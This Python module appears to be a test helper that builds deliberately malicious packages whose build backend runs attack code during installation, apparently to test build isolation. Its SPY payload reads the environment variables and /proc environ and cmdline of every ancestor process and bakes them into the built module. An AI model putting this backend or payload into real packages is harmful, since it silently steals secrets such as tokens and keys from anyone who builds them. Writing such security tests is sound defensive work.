"""Packages whose build backend attacks the machine: they need nothing from an index."""

from __future__ import annotations

import base64
import hashlib
import io
import json
import tarfile
import textwrap
import zipfile
from collections.abc import Sequence
from pathlib import Path

SPY = r"""
import os
found = [dict(os.environ)]
pid = os.getpid()
while pid > 1:
    for name in ("environ", "cmdline"):
        try:
            found.append(open(f"/proc/{pid}/{name}", "rb").read())
        except OSError:
            pass
    pid = int(open(f"/proc/{pid}/stat").read().rpartition(")")[2].split()[1])
return "FOUND = " + ascii(ascii(found)) + "\n"
"""
"""Puts the environment, and that of all processes above, into the module that is built."""

BACKEND = """
import base64, hashlib, pathlib, zipfile

def attack():
{attack}

def get_requires_for_build_wheel(config_settings=None):
    return []

def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    module = {module!r}
    try:
        module = attack() or module
    except Exception as error:
        print("the attack failed:", error)
    info = "evil-1.0.dist-info"
    contents = {{
        "evil.py": module,
        info + "/METADATA": "Metadata-Version: 2.1\\nName: evil\\nVersion: 1.0\\n",
        info + "/WHEEL": "Wheel-Version: 1.0\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n",
    }}
    rows = []
    for name, text in contents.items():
        digest = base64.urlsafe_b64encode(hashlib.sha256(text.encode()).digest()).decode()
        rows.append(f"{{name}},sha256={{digest.rstrip('=')}},{{len(text)}}\\n")
    contents[info + "/RECORD"] = "".join(rows) + info + "/RECORD,,\\n"
    name = "evil-1.0-py3-none-any.whl"
    with zipfile.ZipFile(pathlib.Path(wheel_directory) / name, "w") as archive:
        for path, text in contents.items():
            archive.writestr(path, text)
    return name
"""

PYPROJECT = """
[build-system]
requires = {requires}
build-backend = "backend"
backend-path = ["."]
[project]
name = "evil"
version = "1.0"
"""


def evil(attack: str, module: str = "", requires: Sequence[str] = ()) -> dict[str, str]:
    """Return the files of a package of the project whose build runs the statements of ``attack``.

    ``module`` is the source of the module that it brings, unless the attack returns another.
    """
    return {f"libs/evil/{name}": text for name, text in _files(attack, module, requires).items()}


def evil_sdist(
    folder: Path,
    attack: str,
    module: str = "",
    requires: Sequence[str] = (),
    name: str = "evil",
) -> None:
    """Write the same package as a source distribution for an index."""
    folder.mkdir(parents=True, exist_ok=True)
    files = _files(attack, module, requires)
    files["PKG-INFO"] = "Metadata-Version: 2.1\nName: evil\nVersion: 1.0\n"
    with tarfile.open(folder / f"{name}-1.0.tar.gz", "w:gz") as archive:
        for path, text in files.items():
            content = text.replace("evil", name).encode()
            member = tarfile.TarInfo(f"{name}-1.0/{path}")
            member.size = len(content)
            archive.addfile(member, io.BytesIO(content))


def _files(attack: str, module: str, requires: Sequence[str]) -> dict[str, str]:
    body = textwrap.indent(textwrap.dedent(attack).strip() or "pass", "    ")
    return {
        "pyproject.toml": PYPROJECT.format(requires=json.dumps(list(requires))),
        "backend.py": BACKEND.format(attack=body, module=textwrap.dedent(module)),
    }


def innocent_wheel(folder: Path, name: str, module: str) -> None:
    """Write a wheel with one module for an index."""
    info = f"{name}-1.0.dist-info"
    contents = {
        f"{name}.py": module,
        f"{info}/METADATA": f"Metadata-Version: 2.1\nName: {name}\nVersion: 1.0\n",
        f"{info}/WHEEL": "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
    }
    rows = [f"{path},{_recorded(text)}\n" for path, text in contents.items()]
    contents[f"{info}/RECORD"] = f"{''.join(rows)}{info}/RECORD,,\n"
    with zipfile.ZipFile(folder / f"{name}-1.0-py3-none-any.whl", "w") as archive:
        for path, text in contents.items():
            archive.writestr(path, text)


def _recorded(text: str) -> str:
    """Return hash and size as RECORD has them."""
    digest = base64.urlsafe_b64encode(hashlib.sha256(text.encode()).digest()).rstrip(b"=")
    return f"sha256={digest.decode()},{len(text.encode())}"
